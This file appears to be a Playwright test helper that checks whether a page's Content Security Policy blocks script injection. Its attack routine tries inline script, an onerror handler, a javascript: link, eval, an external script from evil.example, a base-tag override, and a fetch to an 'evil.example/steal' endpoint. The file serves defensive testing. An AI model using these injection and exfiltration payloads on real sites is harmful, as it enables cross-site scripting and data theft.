import type { BrowserContext } from 'playwright/test';

/** Attacks that execute a script; the eighth changes the base URL of the document. */
export const ATTACK_VECTORS = [
  'eval',
  'foreign fetch',
  'foreign script',
  'handler',
  'inline script',
  'javascript: link',
  'script of this origin',
];

/** Serves the attacker's host, and a script that the attacker placed on this site. */
export async function routeAttack(context: BrowserContext): Promise<void> {
  const script = (name: string) => ({
    contentType: 'text/javascript',
    headers: { 'Access-Control-Allow-Origin': '*' },
    body: `hit('${name}')`,
  });
  await context.route('https://evil.example/**', (route) => route.fulfill(script('foreign script')));
  await context.route('**/art/evil.js', (route) => route.fulfill(script('script of this origin')));
}

/** Runs in the page: attempts each attack and resolves with the ones that succeeded, at once when all did, otherwise after `seconds`. */
export async function attack({ seconds }: { seconds: number }): Promise<{ ran: string[]; base: string }> {
  const ran: string[] = [];
  Object.assign(window, { hit: (name: string) => ran.push(name) });
  const attempt = async (way: () => unknown) => {
    try {
      await way();
    } catch {
      // A blocked attack throws.
    }
  };
  const script = (change: (element: HTMLScriptElement) => void) => () => {
    const element = document.createElement('script');
    change(element);
    document.body.append(element);
  };
  await attempt(script((element) => (element.text = "hit('inline script')")));
  await attempt(
    () =>
      (document.body.appendChild(document.createElement('div')).innerHTML = `<img src="/x" onerror="hit('handler')">`),
  );
  await attempt(() => {
    const link = document.createElement('a');
    link.href = "javascript:hit('javascript: link')";
    document.body.append(link);
    link.click();
  });
  // Delayed, because the code that the browser's DevTools evaluate may use eval.
  setTimeout(() => void attempt(() => (0, eval)("hit('eval')")));
  await attempt(script((element) => (element.src = 'https://evil.example/x.js')));
  await attempt(script((element) => (element.src = '/art/evil.js')));
  await attempt(async () => {
    await fetch('https://evil.example/steal', { mode: 'no-cors' });
    ran.push('foreign fetch');
  });
  await attempt(() => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
  });
  for (const end = Date.now() + seconds * 1_000; ran.length < 7 && Date.now() < end;)
    await new Promise((resolve) => setTimeout(resolve, 50));
  return { ran, base: new URL(document.baseURI).origin };
}
